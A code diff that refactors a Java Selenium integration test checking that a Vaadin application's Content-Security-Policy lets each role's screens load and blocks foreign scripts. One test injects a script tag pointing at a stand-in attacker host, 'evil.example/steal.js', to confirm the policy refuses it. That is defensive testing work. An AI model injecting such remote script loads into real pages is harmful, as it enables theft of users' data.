@@ -1,21 +1,12 @@
 package works.incentives.it.browser;
 
-import org.jboss.arquillian.container.test.api.RunAsClient;
-import org.jboss.arquillian.junit5.ArquillianExtension;
-import org.jboss.arquillian.test.api.ArquillianResource;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.openqa.selenium.By;
-import org.openqa.selenium.support.ui.WebDriverWait;
 import works.incentives.it.browser.pages.LoginPage;
 import works.incentives.it.browser.pages.ShellPage;
 
-import java.net.URL;
-import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
 
@@ -26,24 +17,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
  * Vaadin works under the application's Content-Security-Policy: each role's screens load with
  * nothing refused in the browser's console (the other browser tests drive the same policy).
  */
-@ExtendWith(ArquillianExtension.class)
-@RunAsClient
-class ContentSecurityPolicyBrowserIT {
-
-    @ArquillianResource
-    URL base;
-
-    private static Browser browser;
-
-    @BeforeAll
-    static void startBrowser() {
-        browser = new Browser("en-US");
-    }
-
-    @AfterAll
-    static void closeBrowser() {
-        browser.close();
-    }
+class ContentSecurityPolicyBrowserIT extends BrowserTestBase {
 
     @ParameterizedTest(name = "{0}")
     @CsvSource(delimiter = ';', value = {
@@ -51,13 +25,12 @@ class ContentSecurityPolicyBrowserIT {
             "rita;review/plans,review/claims",
             "paul;admin/programs,admin/allocations,admin/help-texts"})
     void everyScreenOfARoleLoadsWithNothingRefused(String user, String routes) {
-        browser.driver().manage().deleteAllCookies();
-        new LoginPage(browser).open(base.toString()).signIn(user, HomeBrowserIT.DEMO_PASSWORD);
+        signInAfresh(user);
         ShellPage shell = new ShellPage(browser);
         assertTrue(shell.navigationLabels().contains("Home"), "not signed in as " + user);
         List<String> refused = new ArrayList<>(browser.contentSecurityPolicyViolations());
         for (String route : routes.split(",")) {
-            shell.openRoute(base.toString(), route);
+            shell.openRoute(base(), route);
             assertEquals(1, browser.findAll(By.tagName("vaadin-app-layout")).size(), route + " did not render");
             refused.addAll(browser.contentSecurityPolicyViolations());
         }
@@ -66,16 +39,15 @@ class ContentSecurityPolicyBrowserIT {
 
     @Test
     void aScriptFromAnotherSiteIsRefused() {
-        browser.driver().manage().deleteAllCookies();
-        new LoginPage(browser).open(base.toString());
+        signOutByForgetting();
+        new LoginPage(browser).open(base());
         browser.contentSecurityPolicyViolations();
         browser.script("var s = document.createElement('script'); s.src = 'https://evil.example/steal.js';"
                 + "document.head.appendChild(s);");
-        List<String> refused = new WebDriverWait(browser.driver(),
-                Duration.ofSeconds(10)).until(d -> {
-                    List<String> found = browser.contentSecurityPolicyViolations();
-                    return found.isEmpty() ? null : found;
-                });
+        List<String> refused = browser.waitUntil("the policy refused nothing", d -> {
+            List<String> found = browser.contentSecurityPolicyViolations();
+            return found.isEmpty() ? null : found;
+        });
         assertTrue(refused.get(0).contains("evil.example"), refused::toString);
     }
 }
